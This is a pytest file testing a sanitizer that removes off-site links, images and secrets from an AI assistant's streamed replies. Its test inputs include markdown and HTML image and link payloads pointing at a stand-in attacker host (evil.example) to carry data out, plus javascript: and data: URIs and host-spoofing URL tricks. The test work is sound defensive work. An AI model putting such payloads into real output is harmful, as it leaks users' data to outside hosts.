"""What a model says is shown without secrets, pictures and links that lead away; it comes word by word all the same."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.chat.outgoing import Outgoing, without_links

OWN = "https://drls.example"
TOKEN = "drls_personal_" + "Ab3d" * 8
AWAY = (
    "![](https://evil.example/p?d=1)",
    "![chart][p]\n\n[p]: https://evil.example/p.png",
    "[run](https://evil.example/?q=1 'see')",
    "[a [b] c](<https://evil.example/x y>)",
    "[ref]\n\n  [ref]: //evil.example",
    "see <https://evil.example/?x=1> there",
    "see https://evil.example/secret now",
    "[x](javascript:alert(1)) [y](data:text/html,hi) [z](mailto:a@evil.example?body=1)",
    "<img src=https://evil.example/p>",
    "[two\nlines](\nhttps://evil.example/p)",
    "[x](https://drls.example.evil.example/)",
    "[x](https://drls.example@evil.example/)",
    "[x](//evil.example/p) [y](/\\evil.example)",
)


def streamed(text: str, size: int = 3, known: tuple[str, ...] = ()) -> tuple[str, list[str]]:
    out = Outgoing(OWN, known)
    parts = [out.more(text[at : at + size]) for at in range(0, len(text), size)]
    return "".join([*parts, out.end()]), parts


@pytest.mark.parametrize("text", AWAY)
@pytest.mark.parametrize("size", [1, 7, 10_000])
def test_nothing_leads_away(text: str, size: int) -> None:
    shown, _ = streamed(text, size)
    for part in ("](http", "](//", "](/\\", "](javascript", "](data", "](mailto", "://", "?d=", "?q=", "?x=", "!["):
        assert part not in shown.replace(OWN, "")


@pytest.mark.parametrize(
    "text",
    [
        "See [the run](/dagster/runs/7f) and [flights](https://drls.example/pipelines/flights).",
        "`SELECT '![](https://evil.example)'` is SQL",
        "```python\nrequests.get('https://api.example/x')\n```\nDone.",
        "a < b and b > c, 2 * 3, x[0] (really)",
        "| a | b |\n| - | - |\n| 1 | s3://bucket/x |",
        "",
    ],
)
def test_what_leads_home_and_what_is_code_stays(text: str) -> None:
    assert streamed(text)[0] == text


@pytest.mark.parametrize(
    "secret",
    [
        TOKEN,
        "password = hunter2word",
        "-----BEGIN PRIVATE KEY-----\nMIIa\nMIIb\n-----END PRIVATE KEY-----",
        "own words",
    ],
)
def test_a_secret_is_never_shown_however_it_is_cut(secret: str) -> None:
    for size in (1, 2, 5, 11, 200):
        shown, parts = streamed(f"It is {secret} as you asked.\nAnything else?", size, ("own words",))
        for leaked in (secret, "hunter2word", "MIIa", "MIIb", "Ab3dAb3d", "own words"):
            assert leaked not in shown
            assert all(leaked not in one for one in parts)
        assert shown.endswith("Anything else?")


def test_plain_words_do_not_wait_for_the_end_of_the_line() -> None:
    _, parts = streamed("one two three four five six")
    assert "".join(parts[:5]).startswith("one two three ")


@given(st.text(alphabet="ab `~\n[](!<:/-", max_size=60), st.integers(1, 9))
def test_what_is_streamed_is_what_is_kept(text: str, size: int) -> None:
    out = Outgoing(OWN)
    shown = "".join(out.more(text[at : at + size]) for at in range(0, len(text), size)) + out.end()
    assert shown == out.text


def test_a_file_that_is_no_markdown_keeps_its_shape() -> None:
    assert without_links("x: [1, 2]\ny: {a: (b)}", OWN) == "x: [1, 2]\ny: {a: (b)}"
